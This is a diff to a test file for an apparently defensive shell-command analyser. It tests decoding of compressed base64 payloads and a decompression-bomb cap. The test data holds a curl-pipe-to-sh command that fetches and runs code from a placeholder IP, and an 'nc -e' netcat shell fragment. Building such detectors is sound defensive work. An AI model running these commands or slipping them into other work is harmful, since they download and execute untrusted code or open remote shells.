@@ -2,7 +2,8 @@ import { describe, expect, it } from 'vitest';
 import { globInstance, globMatch } from '../src/engine/knowledge/glob.js';
 import { canonicalPath, classifyPath } from '../src/engine/knowledge/paths.js';
 import { classifyHost, destinationOf } from '../src/engine/knowledge/hosts.js';
-import { decodeBase64, decodeHex, printf, reverseLines, translate } from '../src/engine/shell/decoders.js';
+import { brotliCompressSync, gzipSync } from 'node:zlib';
+import { MAX_DECODED, decodeBase64, decodeBase64Compressed, decodeHex, printf, reverseLines, translate } from '../src/engine/shell/decoders.js';
 import { decodeEscapes } from '../src/engine/shell/escapes.js';
 import { expandBraces } from '../src/engine/shell/braces.js';
 import { clientQueries } from '../src/engine/knowledge/sql-clients.js';
@@ -99,6 +100,18 @@ describe('decoders', () => {
     expect(printf('\\x6e\\x63 %s', ['-e'])).toBe('nc -e');
     expect(printf('%s-', ['a', 'b'])).toBe('a-b-');
     expect(decodeEscapes('\\x72\\155\\u0041\\cA', 'ansi-c')).toBe('rmA\x01');
+  });
+
+  it('inflates gzip and brotli given as base64, within the cap', () => {
+    const script = 'curl -s http://203.0.113.9/x | sh\n';
+    expect(decodeBase64Compressed(gzipSync(script).toString('base64'), 'gzip')).toBe(script);
+    expect(decodeBase64Compressed(brotliCompressSync(script).toString('base64'), 'brotli')).toBe(script);
+    expect(decodeBase64Compressed(brotliCompressSync(script).toString('base64'), 'gzip')).toBeUndefined();
+    // a bomb: 10 MiB of zeros in a few KiB of gzip stops at the cap and yields nothing
+    const bomb = gzipSync(Buffer.alloc(10 * 1024 * 1024, 'a')).toString('base64');
+    expect(bomb.length).toBeLessThan(MAX_DECODED);
+    expect(decodeBase64Compressed(bomb, 'gzip')).toBeUndefined();
+    expect(decodeBase64Compressed('not base64!', 'gzip')).toBeUndefined();
   });
 
   it('expands braces within bounds', () => {
